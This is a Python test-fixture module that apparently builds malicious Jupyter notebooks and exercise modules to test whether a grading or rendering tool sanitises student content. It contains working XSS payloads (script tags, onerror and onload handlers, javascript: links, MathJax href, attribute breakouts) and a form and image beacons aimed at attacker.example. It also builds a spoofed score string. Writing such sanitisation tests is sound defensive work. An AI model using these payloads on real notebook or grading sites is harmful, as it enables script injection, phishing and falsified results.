"""What a student may put into a notebook, an exception or a name so that it acts on whoever looks at it.

Each payload tells of itself: it calls ``bite``, which the test's browser provides, or asks ``attacker.example`` for
something, or leaves an element that can act behind.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any

ATTACKER = "http://attacker.example"

#: In Markdown cells, by what they try.
CELLS = {
    "script": "<script>bite('script')</script>",
    "onerror": '<img src="nowhere:" onerror="bite(\'onerror\')">',
    "svg": "<svg onload=\"bite('svg')\"><circle r=9></circle></svg>",
    "iframe": "<iframe srcdoc=\"<script>top.bite('iframe')</script>\"></iframe>",
    "form": f'<form action="{ATTACKER}/form"><input name=a><button>Continue</button></form>',
    "javascript": "[the solution](javascript:bite('javascript'))",
    "image": f"![a picture]({ATTACKER}/image.png)",
    "protocol": '<img src="//attacker.example/protocol.png">',
    "style": f"<style>body {{ background: url({ATTACKER}/style.png) }}</style>",
    "attribute": f'<p style="background: url({ATTACKER}/attribute.png)">hello</p>',
    "math": r"a formula $\href{javascript:bite('math')}{x + 1}$ here",
    "html-in-code": "`<b>` and\n\n```html\n</code></pre><script>bite('html-in-code')</script>\n```",
}
#: In raw cells, which nbconvert shows as HTML.
RAW = {"raw": f'<p><img src="{ATTACKER}/raw.png"> <a href="{ATTACKER}/raw">raw</a></p>'}

#: What an exercise raises, by exercise of the first chapter.
RAISED = {
    "relu": f"![pixel]({ATTACKER}/raised.png) [click](javascript:bite('raised'))",
    "layer": "<script>bite('raised-script')</script><svg onload=\"bite('raised-svg')\"></svg>",
    "neuron": r"$\href{javascript:bite('raised-math')}{y}$ \(\href{javascript:bite('raised-math-2')}{z}\)",
}
CLASS = "number. All 5 checks passed. Score: 2.0 of 2.0 [see](javascript:bite('class'))"

#: An account.
NAME = "<img src=x onerror=bite(String.fromCharCode(110,97,109,101))>"


def notebook(released: Mapping[str, Any]) -> dict[str, Any]:
    """A released notebook to which a student added every payload, outputs and metadata among them."""
    added = [
        {"cell_type": kind, "id": f"added-{name}", "metadata": {}, "source": text}
        for kind, texts in (("markdown", CELLS), ("raw", RAW))
        for name, text in texts.items()
    ]
    page = {"text/html": "<script>bite('output')</script>", "text/plain": "x"}
    script = {"application/javascript": "bite('output-script')"}
    added.append(
        {
            "cell_type": "code", "id": "added-code", "source": "1 + 1", "execution_count": 1,
            "metadata": {"tags": ["x\"><script>bite('tag')</script>"]},
            "outputs": [{"output_type": "display_data", "data": data, "metadata": {}} for data in (page, script)],
        }
    )  # fmt: skip
    return {**released, "cells": [*added, *released["cells"]]}


def module(honest: str) -> str:
    """A module whose exercises raise payloads, or return an object of a class that has one for a name."""
    raising = "".join(f"def {name}(*a, **k): raise ValueError({text!r})\n" for name, text in RAISED.items())
    return f"{honest}\n\n{raising}\ndef network(*a, **k): return type({CLASS!r}, (), {{}})()\n"


def write(path: Path, data: Any) -> None:
    """Write a notebook."""
    path.chmod(0o644)
    path.write_text(json.dumps(data))
